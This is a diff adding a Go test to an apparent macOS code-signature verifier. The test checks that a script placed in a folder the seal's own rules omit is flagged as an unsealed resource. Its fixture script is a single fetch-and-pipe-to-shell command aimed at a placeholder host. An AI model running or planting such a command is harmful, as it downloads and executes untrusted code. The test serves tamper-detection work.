@@ -174,3 +174,52 @@ func TestBundleMetadataNotRegular(t *testing.T) {
 		}
 	}
 }
+
+// TestAttackResourceOmittedByOwnRule: a seal whose own rules2 omit a
+// folder (^Resources/data/) leaves every file there unsealed: a script
+// added after signing passed without a word. It is a
+// codesign/resource-omitted warning now; a .DS_Store, which codesign's
+// own rules omit, is not.
+func TestAttackResourceOmittedByOwnRule(t *testing.T) {
+	p := machofile.NewPKI()
+	seal, err := plist.MarshalIndent(map[string]any{
+		"files2": map[string]any{},
+		"rules2": map[string]any{
+			"^.*":                 map[string]any{},
+			"^Info\\.plist$":      map[string]any{"omit": true, "weight": 20.0},
+			"^(.*/)?\\.DS_Store$": map[string]any{"omit": true, "weight": 2000.0},
+			"^Resources/data/":    map[string]any{"omit": true, "weight": 50.0},
+		},
+	}, plist.XMLFormat, "\t")
+	if err != nil {
+		t.Fatal(err)
+	}
+	info := machofile.InfoPlist("Example", "com.example.app")
+	spec := p.DeveloperIDSpec("com.example.app")
+	spec.InfoPlist, spec.CodeResources = info, seal
+	exe, _, err := machofile.Sign(machofile.Build(machofile.Spec{Seed: 53, CodeSize: 5000}), spec)
+	if err != nil {
+		t.Fatal(err)
+	}
+	app := map[string]machofile.BundleFile{
+		"Example.app/Contents/Info.plist":                   {Data: info},
+		"Example.app/Contents/MacOS/Example":                {Data: exe, Mode: 0o755},
+		"Example.app/Contents/_CodeSignature/CodeResources": {Data: seal},
+		"Example.app/Contents/Resources/.DS_Store":          {Data: []byte("\x00\x00\x00\x01Bud1")},
+		"Example.app/Contents/Resources/data/update.sh":     {Data: []byte("#!/bin/sh\ncurl -s https://example.invalid/p | sh\n"), Mode: 0o755},
+	}
+	res, err := VerifyBundle(bundleFS(app), "Example.app", Options{Trust: testTrust(t), Time: checkTime})
+	if err != nil {
+		t.Fatal(err)
+	}
+	var got []string
+	for _, f := range res.Findings {
+		if f.Rule == RuleResourceOmitted {
+			got = append(got, f.Severity.String()+" "+f.Path)
+		}
+	}
+	want := "warning Example.app/Contents/Resources/data/update.sh"
+	if len(got) != 1 || got[0] != want {
+		t.Errorf("resource-omitted findings %q, want [%s]\n%s", got, want, dumpBundle(res))
+	}
+}
